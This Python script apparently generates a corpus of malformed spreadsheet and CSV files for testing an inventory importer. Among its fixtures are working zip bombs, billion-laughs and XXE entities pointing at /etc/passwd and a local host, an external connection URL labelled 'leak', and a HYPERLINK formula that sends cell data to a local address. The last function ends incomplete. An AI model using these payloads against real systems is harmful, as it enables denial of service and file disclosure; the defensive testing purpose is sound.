"""Build the bad-input corpus: every file of the case table, written into one directory.

    python -m tests.core.bad_inputs.build_corpus OUT_DIR

Files are made with openpyxl, zipfile and raw bytes, so the corpus needs nothing installed
beyond the test dependencies. Three files cannot be made that way and are kept as small
fixtures beside this script (fixtures/), converted once with LibreOffice 7.4 from the CSV of
the same name: `soffice --headless --convert-to xls|ods --outdir fixtures fixtures/fleet.csv`.
"""

from __future__ import annotations

import datetime as dt
import re
import shutil
import sys
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import openpyxl
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.utils.datetime import CALENDAR_MAC_1904

FIXTURES = Path(__file__).parent / "fixtures"

FLEET_HEADER = ["Catégorie", "Marque", "Modèle", "Quantité", "NSN", "N° de série", "Observations"]
FLEET_ROWS = [
    ["Camion", "Renault", "GBC 180", 12, "2320014567890", "VF6-000123", ""],
    ["Pick-up", "Toyota", "Land Cruiser 79", 40, "0123456789012", "00123", "NA"],
    ["Ambulance", "Toyota", "Land Cruiser 78", 6, "", "A-0012", "None"],
]
OFFER_HEAD = [
    ["Donateur", "République de Démo"],
    ["Référence", "OFF-0042/NA"],
    ["Date de l'offre", dt.datetime(2025, 3, 12)],
    [],
]
LINE_HEADER = ["Catégorie", "Marque", "Modèle", "Quantité", "Année", "Carburant", "Observations"]
LINE_ROWS = [
    ["Camion", "Renault", "GBC 180", 10, 2015, "Gazole", "Avec lots de bord"],
    ["Pick-up", "Toyota", "Hilux", 20, 2019, "Diesel", ""],
]

Rows = Sequence[Sequence[object]]


# --- writers ------------------------------------------------------------------------------------


def workbook(
    path: Path,
    sheets: dict[str, Rows],
    *,
    text_columns: Sequence[int] = (4, 5),
    tweak: Callable[[openpyxl.Workbook], None] | None = None,
) -> Path:
    """One sheet per entry; code columns (0-based indexes) are stored as text cells."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None or value == "":
                    continue
                cell = ws.cell(row=r, column=c)
                if isinstance(value, str) and value.startswith("="):
                    cell.value = value  # a formula, deliberately (no cached value)
                else:
                    cell.value = value
                    if isinstance(value, str):
                        cell.data_type = "s"
                if c - 1 in text_columns and isinstance(value, str):
                    cell.number_format = "@"
    if tweak:
        tweak(wb)
    wb.save(path)
    return path


def text_cell(ws: object, ref: str, value: str) -> None:
    """A string cell even when it starts with '=' (openpyxl would make it a formula)."""
    cell = ws[ref]  # type: ignore[index]
    cell.value = value
    cell.data_type = "s"


def fleet(path: Path, rows: Rows = FLEET_ROWS, **kw: object) -> Path:
    return workbook(path, {"Parc": [FLEET_HEADER, *rows]}, **kw)  # type: ignore[arg-type]


def offer(path: Path, lines: Rows = LINE_ROWS, head: Rows = OFFER_HEAD, **kw: object) -> Path:
    return workbook(path, {"Offre": [*head, LINE_HEADER, *lines]}, text_columns=(), **kw)  # type: ignore[arg-type]


def patch(
    src: Path,
    dst: Path,
    edits: dict[str, Callable[[bytes], bytes]],
    add: dict[str, bytes] | None = None,
    drop: Sequence[str] = (),
) -> Path:
    """Copy a zip, rewriting some parts (by name), adding and dropping others."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info)
            if info.filename in edits:
                data = edits[info.filename](data)
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    src.unlink()
    return dst


def with_doctype(doctype: bytes) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + body

    return edit


def csv_file(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def csv_text(rows: Rows, sep: str = ";") -> str:
    return "\r\n".join(sep.join(str(v) for v in row) for row in rows) + "\r\n"


def sheet1(transform: Callable[[bytes], bytes]) -> dict[str, Callable[[bytes], bytes]]:
    return {"xl/worksheets/sheet1.xml": transform}


def replace_in(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        assert old in data, old
        return data.replace(old, new, 1)

    return edit


def inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


# --- A. container and file type -----------------------------------------------------------------


def a01_empty(p: Path) -> Path:
    p.write_bytes(b"")
    return p


def a02_pdf(p: Path) -> Path:
    p.write_bytes(b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")
    return p


def a02_jpeg(p: Path) -> Path:
    p.write_bytes(
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(200)
    )
    return p


def a02_letter(p: Path) -> Path:
    p.write_text("Monsieur le Ministre,\nVeuillez trouver ci-joint l'inventaire.\n", "utf-8")
    return p


def a02_html(p: Path) -> Path:
    p.write_text(
        "<html><body><table><tr><td>Marque</td><td>Modèle</td></tr></table></body></html>",
        encoding="utf-8",
    )
    return p


def a02_prose(p: Path) -> Path:
    p.write_text(
        "Bonjour,\nveuillez trouver ci-joint l'inventaire demandé.\nCordialement.\n",
        encoding="utf-8",
    )
    return p


def a03_truncated(p: Path) -> Path:
    fleet(p)
    p.write_bytes(p.read_bytes()[: p.stat().st_size // 2])
    return p


def a03_flipped(p: Path) -> Path:
    fleet(p)
    data = bytearray(p.read_bytes())
    at = data.rfind(b"PK\x01\x02")  # last central-directory entry: scramble its header
    for i in range(at + 10, at + 30):
        data[i] ^= 0xFF
    p.write_bytes(bytes(data))
    return p


def a04_no_content_types(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    return patch(src, p, {}, drop=["[Content_Types].xml"])


def a04_no_workbook(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    return patch(src, p, {}, drop=["xl/workbook.xml"])


def a05_encrypted_ole(p: Path) -> Path:
    # The OLE container Excel writes for a password-protected .xlsx: EncryptionInfo and
    # EncryptedPackage streams named in UTF-16 in the directory sector.
    p.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + "EncryptionInfo".encode("utf-16-le")
        + bytes(114)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(2048)
    )
    return p


def a05_encrypted_zip(p: Path) -> Path:
    fleet(p)
    data = bytearray(p.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # set the "encrypted" flag on every central-directory entry
        data[at + 8] |= 0x01
        at = data.find(b"PK\x01\x02", at + 4)
    p.write_bytes(bytes(data))
    return p


def a06_sheet_protection(p: Path) -> Path:
    def protect(wb: openpyxl.Workbook) -> None:
        wb.active.protection.sheet = True
        wb.active.protection.password = "secret"
        wb.security.lockStructure = True  # type: ignore[union-attr]

    return fleet(p, tweak=protect)


def a07_legacy_xls(p: Path) -> Path:
    shutil.copyfile(FIXTURES / "fleet.xls", p)
    return p


def a08_macros(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    return patch(src, p, {}, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})


def a09_ods(p: Path) -> Path:
    shutil.copyfile(FIXTURES / "fleet.ods", p)
    return p


def a09_csv_as_xlsx(p: Path) -> Path:
    return csv_file(p, csv_text([FLEET_HEADER, *FLEET_ROWS]))


def a09_word(p: Path) -> Path:
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    return p


def a09_zip_archive(p: Path) -> Path:
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("inventaire/lisez-moi.txt", "voir le classeur")
    return p


def a11_long_accented_path(p: Path) -> Path:
    folder = p.parent / ("dossier partagé é à ç — " * 6).strip() / ("sous-dossier " * 8).strip()
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "Inventaire du matériel (copie).xlsx"
    assert len(str(target)) > 260
    return fleet(target)


def a11_directory(p: Path) -> Path:
    p.mkdir()
    return p


def a11_missing(p: Path) -> Path:
    return p  # never written


# --- B. resource exhaustion and hostile content -------------------------------------------------


def b12_zip_bomb(p: Path, size: int = 600 << 20) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    with (
        zipfile.ZipFile(src) as zin,
        zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout,
    ):
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(info.filename, zin.read(info))
        with zout.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>' * 8192
            for _ in range(size // len(row)):
                fh.write(row)
            fh.write(b"</sheetData></worksheet>")
    src.unlink()
    return p


def b12_ratio_bomb(p: Path) -> Path:
    """Under every declared-size cap (300 MB), refused by its inflation ratio while inflating."""
    return b12_zip_bomb(p, 300 << 20)


def b12_lying_size(p: Path) -> Path:
    b12_zip_bomb(p)
    data = bytearray(p.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # declare 1 KB for the bomb part in the central directory
        name_len = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            extra_len = int.from_bytes(data[at + 30 : at + 32], "little")
            extra = at + 46 + name_len
            if int.from_bytes(data[at + 24 : at + 28], "little") == 0xFFFFFFFF:
                # zip64: the real size sits in the extra field
                data[extra + 4 : extra + 12] = (1024).to_bytes(8, "little")
            else:
                data[at + 24 : at + 28] = (1024).to_bytes(4, "little")
            del extra_len
            break
        at = data.find(b"PK\x01\x02", at + 4)
    p.write_bytes(bytes(data))
    return p


def b12_many_parts(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    return patch(src, p, {}, add={f"xl/media/x{i}.bin": b"" for i in range(6000)})


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def b13_billion_laughs(p: Path) -> Path:
    def strings(wb: openpyxl.Workbook) -> None:
        pass

    src = fleet(p.with_suffix(".src.xlsx"), tweak=strings)
    return patch(src, p, {"xl/workbook.xml": with_doctype(LAUGHS)})


def b13_quadratic(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    big = b"A" * 100_000
    doctype = b'<!DOCTYPE w [<!ENTITY a "' + big + b'">]>'
    edit = with_doctype(doctype)

    def sheet(data: bytes) -> bytes:
        return edit(data).replace(b"<t>Camion</t>", b"<t>" + b"&a;" * 1000 + b"</t>", 1)

    return patch(src, p, sheet1(sheet))


def b14_xxe(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    doctype = b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    edit = with_doctype(doctype)

    def sheet(data: bytes) -> bytes:
        return edit(data).replace(b"<t>Renault</t>", b"<t>&xxe;</t>", 1)

    return patch(src, p, sheet1(sheet))


def b14_xxe_late(p: Path) -> Path:
    """The DOCTYPE after 8 KB of whitespace and comments, to dodge a probe of the first bytes."""
    src = fleet(p.with_suffix(".src.xlsx"))
    doctype = (
        b"<!--"
        + b" " * 20_000
        + b"-->"
        + b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/x">]>'
    )

    def sheet(data: bytes) -> bytes:
        return with_doctype(doctype)(data).replace(b"<t>Renault</t>", b"<t>&xxe;</t>", 1)

    return patch(src, p, sheet1(sheet))


def b15_lying_dimension(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    return patch(
        src,
        p,
        sheet1(lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d)),
    )


def b15_stray_far_cell(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    far = b'<row r="1048576">' + inline("XFD1048576", "x") + b"</row></sheetData>"
    return patch(src, p, sheet1(replace_in(b"</sheetData>", far)))


def b15_unnumbered_rows(p: Path) -> Path:
    """Rows without their r attribute (the reader numbers them in sequence) under one cell in
    column XFD: 2,000 rows × 16,384 columns is 33 million cells the reader would allocate."""
    src = fleet(p.with_suffix(".src.xlsx"))
    row = b'<row spans="1:1"><c t="inlineStr"><is><t>x</t></is></c></row>'

    def edit(data: bytes) -> bytes:
        last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', data))
        ref = f"XFD{last + 1}"
        far = f'<row r="{last + 1}">'.encode() + inline(ref, "x") + b"</row>" + row * 2000
        return replace_in(b"</sheetData>", far + b"</sheetData>")(data)

    return patch(src, p, sheet1(edit))


def b15_whole_sheet_merge(p: Path) -> Path:
    # Written into the XML: openpyxl itself would create a cell object for every merged cell.
    src = fleet(p.with_suffix(".src.xlsx"))
    merge = b'</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>'
    return patch(src, p, sheet1(replace_in(b"</sheetData>", merge)))


def b15_ods_repeated_cells(p: Path) -> Path:
    """An OpenDocument row repeated a million times with a cell repeated 16,000 times: one line
    of XML that stands for 16 billion cells."""
    bomb = (
        b'<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
        b'table:number-columns-repeated="16000" office:value-type="string"><text:p>x</text:p>'
        b"</table:table-cell></table:table-row></table:table>"
    )
    src = p.with_suffix(".src.ods")
    shutil.copyfile(FIXTURES / "fleet.ods", src)
    return patch(src, p, {"content.xml": replace_in(b"</table:table>", bomb)})


def b16_million_rows(p: Path) -> Path:
    """A genuine sheet at Excel's row limit: 1,048,576 rows × 12 columns, written as raw XML."""
    src = fleet(p.with_suffix(".src.xlsx"))
    with (
        zipfile.ZipFile(src) as zin,
        zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout,
    ):
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(info.filename, zin.read(info))
        with zout.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            head = "".join(
                f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                for i, h in enumerate(FLEET_HEADER)
            )
            fh.write(f'<row r="1">{head}</row>'.encode())
            cells = "".join(f'<c r="{chr(65 + i)}{{0}}"><v>{i}</v></c>' for i in range(12))
            template = '<row r="{0}">' + cells + "</row>"
            step = 4096
            for start in range(2, 1_048_577, step):
                fh.write(
                    "".join(
                        template.format(r) for r in range(start, min(start + step, 1_048_577))
                    ).encode()
                )
            fh.write(b"</sheetData></worksheet>")
    src.unlink()
    return p


def b18_max_cell(p: Path) -> Path:
    rows = [list(r) for r in FLEET_ROWS]
    rows[0][6] = "x" * 32_767
    return fleet(p, rows)


def b18_line_feeds(p: Path) -> Path:
    rows = [list(r) for r in FLEET_ROWS]
    rows[0][6] = "ligne\n" * 253
    return fleet(p, rows)


def b18_five_megabytes(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    huge = b"<t>" + b"y" * (5 << 20) + b"</t>"
    return patch(src, p, sheet1(replace_in(b"<t>NA</t>", huge)))


def b19_external_links(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>'
    )
    conn = b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4"><webPr url="http://127.0.0.1:9/leak"/></connection></connections>'
    return patch(
        src, p, {}, add={"xl/externalLinks/externalLink1.xml": link, "xl/connections.xml": conn}
    )


def b20_decorations(p: Path) -> Path:
    def decorate(wb: openpyxl.Workbook) -> None:
        ws = wb.active
        ws["A2"].comment = Comment("vérifié le 3 mars", "DMAT")
        for i in range(2000):  # thousands of distinct styles
            ws.cell(row=10 + i, column=12).font = Font(
                size=8 + (i % 50), bold=bool(i % 2), color=f"{i:06X}"
            )

    return fleet(p, tweak=decorate)


# --- C. workbook and sheet structure -----------------------------------------------------------


def c21_all_empty(p: Path) -> Path:
    return workbook(p, {"Feuil1": [], "Feuil2": []})


def c22_header_only(p: Path) -> Path:
    return fleet(p, [])


def c23_data_on_third_sheet(p: Path) -> Path:
    notice = [
        ["Lisez-moi"],
        ["Ce classeur contient l'inventaire du parc."],
        ["Ne pas modifier les en-têtes."],
    ]
    summary = [["Synthèse", "Nombre"], ["Camions", 12], ["Pick-up", 40]]
    return workbook(
        p, {"Lisez-moi": notice, "Synthèse": summary, "Données": [FLEET_HEADER, *FLEET_ROWS]}
    )


def c23_two_candidates(p: Path) -> Path:
    old = [FLEET_HEADER[:4], ["Camion", "Berliet", "GBC 8KT", 3]]
    return workbook(p, {"Ancien parc": old, "Parc": [FLEET_HEADER, *FLEET_ROWS]})


def c23_hidden_data_sheet(p: Path) -> Path:
    def hide(wb: openpyxl.Workbook) -> None:
        wb["Parc"].sheet_state = "hidden"

    return workbook(
        p, {"Notes": [["Voir la feuille Parc"]], "Parc": [FLEET_HEADER, *FLEET_ROWS]}, tweak=hide
    )


def c23_hidden_extra_sheet(p: Path) -> Path:
    def hide(wb: openpyxl.Workbook) -> None:
        wb["Brouillon"].sheet_state = "veryHidden"

    return workbook(
        p,
        {
            "Parc": [FLEET_HEADER, *FLEET_ROWS],
            "Brouillon": [["Marque", "Modèle"], ["Lada", "Niva"]],
        },
        tweak=hide,
    )


def c25_title_block(p: Path) -> Path:
    title = [["MINISTÈRE DE LA DÉFENSE"], ["Inventaire au 31/12/2023"], [], []]
    return workbook(p, {"Parc": [*title, FLEET_HEADER, *FLEET_ROWS]})


def c26_merged_header(p: Path) -> Path:
    top = ["Matériel", None, None, "Quantité", "Identification", None, None]
    second = ["Catégorie", "Marque", "Modèle", "totale", "NSN", "N° de série", "Observations"]

    def merge(wb: openpyxl.Workbook) -> None:
        wb.active.merge_cells("A1:C1")
        wb.active.merge_cells("E1:F1")

    return workbook(p, {"Parc": [top, second, *FLEET_ROWS]}, tweak=merge)


def c27_merged_data_cells(p: Path) -> Path:
    rows = [["Camion", "Renault", f"GBC {i}", 1, "", "", ""] for i in range(10)]
    for r in rows[1:]:
        r[0] = None  # value only in the top-left cell of the merge

    def merge(wb: openpyxl.Workbook) -> None:
        wb.active.merge_cells("A2:A11")

    return fleet(p, rows, tweak=merge)


def c29_duplicate_headers(p: Path) -> Path:
    header = ["Catégorie", "Marque", "Modèle", "Quantité", "Quantité"]
    rows = [["Camion", "Renault", "GBC 180", 12, 10], ["Pick-up", "Toyota", "Hilux", 40, 38]]
    return workbook(p, {"Parc": [header, *rows]}, text_columns=())


def c30_header_variants(p: Path) -> Path:
    header = [
        "  CATEGORIE ",
        "marque\u00a0du véhicule",
        "Mode\u0301le",
        "Qté\ntotale",
        "N.S.N.",
        "S/N",
        "obs.",
    ]
    return workbook(p, {"Parc": [header, *FLEET_ROWS]})


def c30_english_headers(p: Path) -> Path:
    header = ["Category", "Make", "Model", "Qty", "NSN", "Serial Number", "Remarks"]
    return workbook(p, {"Fleet": [header, *FLEET_ROWS]})


def c31_missing_required(p: Path) -> Path:
    header = ["Catégorie", "Marque", "Modèle", "Carburant"]
    return workbook(
        p, {"Parc": [header, ["Camion", "Renault", "GBC 180", "Gazole"]]}, text_columns=()
    )


def c32_shuffled_extra(p: Path) -> Path:
    header = ["Quantité", "Code interne", "Modèle", "Couleur", "Marque", "Catégorie"]
    rows = [
        [12, "X1", "GBC 180", "sable", "Renault", "Camion"],
        [40, "X2", "Hilux", "vert", "Toyota", "Pick-up"],
    ]
    return workbook(p, {"Parc": [header, *rows]}, text_columns=())


# --- D. cell values -----------------------------------------------------------------------------


def d33_nsn_text(p: Path) -> Path:
    return fleet(p)


def d34_nsn_number_format(p: Path) -> Path:
    def numbers(wb: openpyxl.Workbook) -> None:
        ws = wb.active
        ws["E3"].value = 123456789012
        ws["E3"].number_format = "0" * 13
        ws["F3"].value = 123
        ws["F3"].number_format = "00000"

    return fleet(p, tweak=numbers)


def d34_code_plain_number(p: Path) -> Path:
    def numbers(wb: openpyxl.Workbook) -> None:
        wb.active["F2"].value = 4711

    return fleet(p, tweak=numbers)


def d35_nsn_variants(p: Path) -> Path:
    rows = [
        ["Camion", "Renault", "GBC 180", 1, "2320-01-456-7890", "", ""],
        ["Camion", "Renault", "GBC 180", 1, "2320 01 456 7890", "", ""],
        ["Camion", "Renault", "GBC 180", 1, "232O-01-456-7890", "", ""],
        ["Camion", "Renault", "GBC 180", 1, "232001456789", "", ""],
    ]
    return fleet(p, rows)


def d36_serial_mix(p: Path) -> Path:
    rows = [["Camion", "Renault", "GBC 180", 1, "", s, ""] for s in ("A-0012", "00123", "", "B7")]

    def numbers(wb: openpyxl.Workbook) -> None:
        wb.active["F5"].value = 12345  # a number among text serials

    return fleet(p, rows, tweak=numbers)


def d37_quantities_as_text(p: Path) -> Path:
    qty = ["12", " 12 ", "12,5", "1\u00a0200", "12 pcs", "douze", "1e3"]
    rows = [["Camion", "Renault", "GBC 180", q, "", "", ""] for q in qty]
    return fleet(p, rows)


def d38_quantity_values(p: Path) -> Path:
    rows = [
        ["Camion", "Renault", "GBC 180", q, "", "", ""]
        for q in (-3, 0, 2.5, 1e12, 0.30000000000000004, 2**53 + 1)
    ]
    return fleet(p, rows)


def d39_pledge_dates(p: Path) -> Path:
    header = ["Partenaire", "Catégorie", "Marque", "Quantité", "Date prévue"]
    values: list[object] = [
        dt.datetime(2024, 3, 12),
        45292,
        "12/03/2024",
        "2024-03-12",
        "mars 2024",
        "31/02/2024",
        60,
        dt.datetime(9999, 12, 31),
    ]
    pledges = [header, *[["France", "Camion", "Renault", 1, v] for v in values]]

    def date_formats(wb: openpyxl.Workbook) -> None:
        ws = wb["Partenaires"]
        ws["E8"].number_format = "dd/mm/yyyy"  # serial 60: the fictitious 29/02/1900

    return workbook(
        p, {"Parc": [FLEET_HEADER, *FLEET_ROWS], "Partenaires": pledges}, tweak=date_formats
    )


def d41_error_values(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))

    def errors(data: bytes) -> bytes:
        data = re.sub(
            rb'<c r="D2"[^>]*>.*?</c>',
            b'<c r="D2" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
            data,
            count=1,
        )
        data = re.sub(rb'<c r="D3"[^>]*>.*?</c>', b'<c r="D3" t="e"><v>#N/A</v></c>', data, count=1)
        return re.sub(
            rb'<c r="G4"[^>]*>.*?</c>',
            b'<c r="G4" t="e"><f>Feuil9!A1</f><v>#REF!</v></c>',
            data,
            count=1,
        )

    return patch(src, p, sheet1(errors))


def d41_formulas_without_values(p: Path) -> Path:
    rows = [list(r) for r in FLEET_ROWS]
    rows[0][3] = "=6+6"  # required quantity: the row is rejected
    rows[1][6] = '=CONCAT("a";"b")'  # optional notes: a warning
    return fleet(p, rows)


def d41_formulas_with_values(p: Path) -> Path:
    src = fleet(p.with_suffix(".src.xlsx"))
    cached = b'<c r="D2"><f>6+6</f><v>12</v></c>'
    return patch(src, p, sheet1(lambda d: re.sub(rb'<c r="D2"[^>]*>.*?</c>', cached, d, count=1)))


def d43_unicode_traps(p: Path) -> Path:
    rows = [
        ["Camion", "Renault\u200b", "GBC_VT_180", 1, "", "", "🚚 convoi"],
        ["Pick-up", "Toyota", "Land Cruiser", 1, "", "", "مركبة"],
        ["Pick-up", "Citroe\u0308n", "Mode\u0300le", 1, "", "", "e\u0301te\u0301"],
    ]
    src = fleet(p.with_suffix(".src.xlsx"), rows)
    # A vertical tab: openpyxl refuses to write it, other programs do.
    return patch(src, p, sheet1(replace_in(b"GBC_VT_180", b"GBC&#11;180")))


def d44_formula_like_text(p: Path) -> Path:
    def texts(wb: openpyxl.Workbook) -> None:
        ws = wb.active
        text_cell(ws, "G2", "=ancien code")
        text_cell(ws, "G3", "@unité")
        text_cell(ws, "G4", '=HYPERLINK("http://127.0.0.1:9/?"&A1)')
        text_cell(ws, "F2", "-")
        text_cell(ws, "F3", "+33")

    return fleet(p, tweak=texts)


def d46_codes_beyond_precision(p: Path) -> Path:
    def numbers(wb: openpyxl.Workbook) -> None:
        wb.active["E2"].value = 2**53 + 1  # 9007199254740993: not representable as a float

    return fleet(p, tweak=numbers)


def d47_na_none_texts(p: Path) -> Path:
    rows = [
        ["Camion", "NA", "None", 1, "NULL", "N/A", "nan"],
        ["Pick-up", "Toyota", "NA", 2, "#N/A", "None", "null"],
    ]
    return fleet(p, rows)


# --- E. CSV inputs ------------------------------------------------------------------------------


def e47_bom(p: Path) -> Path:
    return csv_file(
        p, "\ufeff" + csv_text([["NSN", *FLEET_HEADER[:4]], *[[r[4], *r[:4]] for r in FLEET_ROWS]])
    )


def e48_cp1252(p: Path) -> Path:
    return csv_file(
        p,
        csv_text([FLEET_HEADER, ["Véhicule léger", "Peugeot", "P4 été", 3, "", "", "Réformé"]]),
        "cp1252",
    )


def e48_utf16(p: Path) -> Path:
    return csv_file(p, "\ufeff" + csv_text([FLEET_HEADER, *FLEET_ROWS], "\t"), "utf-16-le")


def e48_undecodable(p: Path) -> Path:
    p.write_bytes(csv_text([FLEET_HEADER]).encode() + b"Camion;Renault;GBC \x81\x8d;1\r\n")
    return p


def e49_semicolon_decimal_comma(p: Path) -> Path:
    header = ["Ligne budgétaire", "Montant", "Devise"]
    fleet_part = csv_text(
        [
            FLEET_HEADER[:4],
            ["Camion", "Renault", "GBC 180", "12"],
            ["Pick-up", "Toyota", "Hilux", "1 200"],
        ]
    )
    del header
    return csv_file(p, fleet_part)


def e49_sep_line(p: Path) -> Path:
    return csv_file(
        p, "sep=,\r\n" + csv_text([FLEET_HEADER[:4], ["Camion", "Renault", "GBC 180", "12"]], ",")
    )


def e50_one_column(p: Path) -> Path:
    return csv_file(p, "Marque\r\nRenault\r\nToyota\r\n")


def e50_tabs(p: Path) -> Path:
    return csv_file(p, csv_text([FLEET_HEADER, *FLEET_ROWS], "\t"))


def e50_quoted(p: Path) -> Path:
    text = (
        "Catégorie;Marque;Modèle;Quantité;Observations\r\n"
        'Camion;Renault;"GBC 180; version 6x6";12;"ligne 1\r\nligne 2"\r\n'
        'Camion;Renault;"Kerax ""Dakar""";40;\r\n'
    )
    return csv_file(p, text)


def e51_ragged_more(p: Path) -> Path:
    rows: list[list[object]] = [FLEET_HEADER[:4], ["Camion", "Renault", "GBC 180", "12"]]
    rows.append(["Pick-up", "Toyota", "Land Cruiser", "79", "40"])  # an unquoted separator
    rows.append(["Ambulance", "Toyota", "Land Cruiser 78", "6", "", ""])  # trailing separators
    return csv_file(p, csv_text(rows))


def e51_ragged_fewer(p: Path) -> Path:
    rows = [
        FLEET_HEADER[:4],
        ["Camion", "Renault", "GBC 180", "12"],
        ["Pick-up", "Toyota", "Hilux"],
    ]
    return csv_file(p, csv_text(rows))


def e51_stray_quote(p: Path) -> Path:
    text = 'Catégorie;Marque;Modèle;Quantité\r\nCamion;Renault;"GBC 180;12\r\nPick-up;Toyota;Hilux;40\r\n'
    return csv_file(p, text)


def e51_na_texts(p: Path) -> Path:
    return csv_file(
        p, csv_text([[*FLEET_HEADER[:4], "N° de série"], ["Camion", "NA", "None", "1", "NULL"]])
    )


# --- offers -------------------------------------------------------------------------------------


def o_plain(p: Path) -> Path:
    return offer(p)


def o_lines_only(p: Path) -> Path:
    return offer(p, head=())


def o_formula_quantity(p: Path) -> Path:
    lines = [list(r) for r in LINE_ROWS]
    lines[0][3] = "=5*2"
    return offer(p, lines)


def o_markup(p: Path) -> Path:
    lines = [
        [
            "Camion",
            "S&P <b>",
            '<img src="/etc/passwd">',
            1,
            2015,
            "Gazole",
            '<font color="[[[getattr(pow, Word)]]]">x</font>',
        ],
        ["Pick-up", "Toyota", "Hilux 1 < 2 & 3 > 2", 2, 2019, "Diesel", "\u202eRTL مركبة 🚑"],
    ]
    return offer(p, lines)


def o_hidden_sheet(p: Path) -> Path:
    def hide(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("Prix internes")
        ws.append(["Modèle", "Prix"])
        ws.sheet_state = "hidden"

    return offer(p, tweak=hide)


def o_1904_dates(p: Path) -> Path:
    def epoch(wb: openpyxl.Workbook) -> None:
        wb.epoch = CALENDAR_MAC_1904

    return offer(p, tweak=epoch)


def o_impossible_date(p: Path) -> Path:
    head = [list(r) for r in OFFER_HEAD]
    head[2] = ["Date de l'offre", 60]

    def date_format(wb: openpyxl.Workbook) -> None:
        wb.active["B3"].number_format = "dd/mm/yyyy"

    return offer(p, head=head, tweak=date_format)


def o_all_rejected(p: Path) -> Path:
    return offer(p, [["Camion", "Renault", "GBC 180", "beaucoup", 2015, "", ""]])


def o_csv_cp1252(p: Path) -> Path:
    return csv_file(
        p,
        csv_text([LINE_HEADER, ["Véhicule léger", "Peugeot", "P4", 3, 1995, "Essence", "Réformé"]]),
        "cp1252",
    )


def o_code_reference_number(p: Path) -> Path:
    head = [list(r) for r in OFFER_HEAD]
    head[1] = ["Référence", 42]

    def fmt(wb: openpyxl.Workbook) -> None:
        wb.active["B2"].number_format = "00000"

